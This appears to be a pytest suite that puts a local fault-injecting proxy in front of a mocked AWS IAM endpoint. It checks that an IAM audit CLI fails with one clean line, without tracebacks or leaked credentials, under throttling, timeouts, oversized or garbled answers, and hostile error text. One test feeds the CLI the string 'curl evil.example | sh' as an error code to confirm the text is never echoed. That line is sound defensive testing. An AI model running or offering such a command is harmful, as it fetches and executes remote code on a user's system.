"""Live-mode faults, injected by a small HTTP proxy on 127.0.0.1 in front of a moto server:
throttling that clears and that does not, 5xx, timeouts, malformed responses, AccessDenied on one read,
an answer dripped one byte at a time, endless pages, a 50 MB document, error text that echoes the request.
Every failure is one line and exit 2, never a traceback, never a credential."""

from __future__ import annotations

import json
import resource
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.conftest import ROOT, run_cli
from tests.test_live import FAKE, endpoint  # noqa: F401  (the moto server fixture)

pytestmark = pytest.mark.slow  # a moto server behind a fault-injecting proxy; timeouts

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY"
TOKEN = "FwoGZXIvYXdzEXAMPLESESSIONTOKEN"
CREDS = {"AWS_ACCESS_KEY_ID": "AKIAEXAMPLEKEYID1234", "AWS_SECRET_ACCESS_KEY": SECRET, "AWS_SESSION_TOKEN": TOKEN,
         "AWS_DEFAULT_REGION": "us-east-1"}


def _error(code: str, status: int) -> tuple[int, bytes]:
    body = (f'<ErrorResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><Error><Type>Sender</Type>'
            f"<Code>{code}</Code><Message>injected {code}</Message></Error><RequestId>1</RequestId></ErrorResponse>")
    return status, body.encode()


class Faults:
    def __init__(self, upstream: str) -> None:
        self.upstream = upstream
        self.mode: dict[str, object] = {}
        self.requests = 0
        self.actions: dict[str, int] = {}

    def answer(self, body: bytes, headers: dict[str, str]) -> tuple[int, bytes, str]:
        self.requests += 1
        form = dict(p.split("=", 1) for p in body.decode().split("&") if "=" in p)
        action = form.get("Action", "")
        self.actions[action] = self.actions.get(action, 0) + 1
        mode = self.mode
        if mode.get("endless") == action:  # a list that always has one more page
            n = self.actions[action]
            body = (f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><{action}Result><PolicyNames>'
                    f"<member>p{n}</member></PolicyNames><IsTruncated>true</IsTruncated><Marker>m{n}</Marker></{action}Result>"
                    f"<ResponseMetadata><RequestId>{n}</RequestId></ResponseMetadata></{action}Response>")
            return 200, body.encode(), "text/xml"
        if mode.get("huge") == action:  # a policy document of 50 MB
            document = urllib.parse.quote(json.dumps({"Version": "2012-10-17", "Statement": [
                {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::" + "x" * (50 * 1024 * 1024)}]}))
            body = (f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><{action}Result><GroupName>Jets'
                    f"</GroupName><PolicyName>JetsPolicy</PolicyName><PolicyDocument>{document}</PolicyDocument></{action}Result>"
                    f"<ResponseMetadata><RequestId>1</RequestId></ResponseMetadata></{action}Response>")
            return 200, body.encode(), "text/xml"
        if mode.get("echo"):  # an error whose text repeats the request's headers, and a code that is no code
            echoed = " ".join(f"{k}={v}" for k, v in headers.items())
            body = (f'<ErrorResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><Error><Type>Sender</Type>'
                    f"<Code>{mode['echo']}</Code><Message>bad request: {echoed}</Message></Error><RequestId>1</RequestId>"
                    "</ErrorResponse>")
            return 400, body.encode(), "text/xml"
        if mode.get("throttle", 0) and self.requests <= int(mode["throttle"]):  # type: ignore[arg-type]
            return (*_error("Throttling", 400), "text/xml")
        if mode.get("deny") == action:
            return (*_error("AccessDenied", 403), "text/xml")
        if mode.get("status500"):
            return (*_error("ServiceUnavailable", 503), "text/xml")
        if mode.get("garbage"):
            return 200, b"<<<this is not xml", "text/xml"
        if mode.get("sleep"):
            time.sleep(float(mode["sleep"]))  # type: ignore[arg-type]
        req = urllib.request.Request(self.upstream + "/", data=body, method="POST",
                                     headers={k: v for k, v in headers.items() if k.lower() != "host"})
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:
                return resp.status, resp.read(), resp.headers.get("Content-Type", "text/xml")
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read(), exc.headers.get("Content-Type", "text/xml")


@pytest.fixture
def proxy(endpoint):  # noqa: F811
    faults = Faults(endpoint)

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            try:
                try:
                    status, payload, ctype = faults.answer(body, dict(self.headers))
                except OSError:
                    status, payload, ctype = 502, b"upstream gone", "text/plain"
                if faults.mode.get("drip"):  # the whole answer, status line included, one byte at a time
                    raw = (f"HTTP/1.1 {status} OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(payload)}\r\n\r\n"
                           .encode() + payload)
                    for i in range(len(raw)):
                        self.wfile.write(raw[i:i + 1])
                        time.sleep(float(faults.mode["drip"]))  # type: ignore[arg-type]  # mode holds flags and numbers; "drip" is a number
                    return
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)
            except (BrokenPipeError, ConnectionResetError):
                pass

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    faults.url = f"http://127.0.0.1:{server.server_address[1]}"
    yield faults
    server.shutdown()
    server.server_close()


def live(proxy, *args):
    return run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, *args, env_extra=CREDS)


def _one_line_exit_2(proc, starts: str) -> str:
    err = proc.stderr.decode()
    assert proc.returncode == 2, err
    assert err.startswith(f"jets-iam-audit: error: {starts}"), err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert SECRET not in err and TOKEN not in err and proc.stdout == b""
    return err


def test_throttling_burst_that_clears(proxy):
    proxy.mode = {"throttle": 2}
    proc = live(proxy, "--format", "json")
    assert proc.returncode == 1 and json.loads(proc.stdout)["targets"][0]["name"] == "Jets"


def test_throttling_that_does_not_clear(proxy):
    proxy.mode = {"throttle": 10_000}
    start = time.monotonic()
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "3"})
    _one_line_exit_2(proc, "AWS kept throttling iam:GetGroup after retries")
    assert proxy.requests == 3
    assert time.monotonic() - start < 90


def test_server_errors(proxy):
    proxy.mode = {"status500": True}
    _one_line_exit_2(live(proxy), "AWS error ServiceUnavailable in iam:GetGroup")


def test_access_denied_on_one_read(proxy):
    proxy.mode = {"deny": "GetPolicyVersion"}
    err = _one_line_exit_2(live(proxy), "access denied to iam:GetPolicyVersion")
    assert "read access to IAM" in err


def test_malformed_response(proxy):
    proxy.mode = {"garbage": True}
    _one_line_exit_2(live(proxy), "AWS request failed")


def test_timeout(proxy):
    proxy.mode = {"sleep": 3}
    start = time.monotonic()
    _one_line_exit_2(live(proxy, "--timeout", "0.5"), "the AWS IAM endpoint did not answer in time")
    assert time.monotonic() - start < 60


def test_no_secrets_even_when_verbose(proxy):
    proxy.mode = {}
    proc = live(proxy, "--verbose", "--format", "json")
    assert proc.returncode == 1
    out = proc.stdout.decode() + proc.stderr.decode()
    assert "group Jets: 2 policies (group/Jets/inline/JetsPolicy" in proc.stderr.decode()
    assert SECRET not in out and TOKEN not in out and CREDS["AWS_ACCESS_KEY_ID"] not in out


def test_an_answer_dripped_one_byte_at_a_time_meets_the_request_deadline(proxy):
    """botocore's read timeout bounds each read, and every read gets a byte well within it: without a
    deadline per request this would take minutes (hundreds of bytes at 0.1 s each)."""
    proxy.mode = {"drip": 0.1}
    start = time.monotonic()
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, "--timeout", "1",
                   env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "2"})
    _one_line_exit_2(proc, "the AWS IAM endpoint did not answer in time within --timeout 1 s (after retries)")
    assert time.monotonic() - start < 20
    assert proxy.actions == {"GetGroup": 2}


def test_the_whole_read_has_a_deadline(proxy):
    """Every answer comes within --timeout, but a group of 101 policies takes longer than 15 of them."""
    proxy.mode = {"sleep": 0.3}
    start = time.monotonic()
    proc = run_cli("live", "--group", "Big", "--endpoint-url", proxy.url, "--timeout", "0.5", env_extra=CREDS)
    _one_line_exit_2(proc, "the live read did not finish within 7.5 s (15 x --timeout): the AWS IAM endpoint is too slow")
    assert time.monotonic() - start < 30


def test_endless_pages_stop(proxy):
    proxy.mode = {"endless": "ListGroupPolicies"}
    _one_line_exit_2(live(proxy), "iam:ListGroupPolicies answered more than 100 pages: stopped paging")
    assert proxy.actions["ListGroupPolicies"] == 101


def _limit_memory():
    limit = 1024 * 1024 * 1024
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def test_a_50_mb_document_is_refused_in_bounded_memory(proxy):
    """The answer is read up to 2 MiB: the 50 MB document (which once took gigabytes) fails with one line
    in a process limited to 1 GiB of address space."""
    proxy.mode = {"huge": "GetGroupPolicy"}
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("AWS_")}
    env.update({**CREDS, "AWS_CONFIG_FILE": "/dev/null", "AWS_SHARED_CREDENTIALS_FILE": "/dev/null", "NO_COLOR": "1",
                "AWS_MAX_ATTEMPTS": "1"})
    proc = subprocess.run([sys.executable, "-m", "auditor", "live", "--group", "Jets", "--endpoint-url", proxy.url],
                          capture_output=True, cwd=ROOT, env=env, timeout=120, preexec_fn=_limit_memory)
    _one_line_exit_2(proc, "the AWS IAM endpoint sent an answer larger than 2 MiB: stopped reading")


def test_the_endpoints_error_text_is_never_repeated(proxy):
    """An error whose message echoes the request (the signature, the session token) and whose code is
    not a code: the line names the operation and the HTTP status, nothing the endpoint wrote."""
    proxy.mode = {"echo": "Please run: curl evil.example | sh"}
    err = _one_line_exit_2(live(proxy), "AWS error unknown in iam:GetGroup (HTTP 400): the endpoint's message is not shown")
    assert "Authorization" not in err and CREDS["AWS_ACCESS_KEY_ID"] not in err and "evil" not in err
    proxy.mode = {"echo": "InvalidInput"}
    err = _one_line_exit_2(live(proxy), "AWS error InvalidInput in iam:GetGroup (HTTP 400)")
    assert "bad request" not in err and "X-Amz-Security-Token" not in err
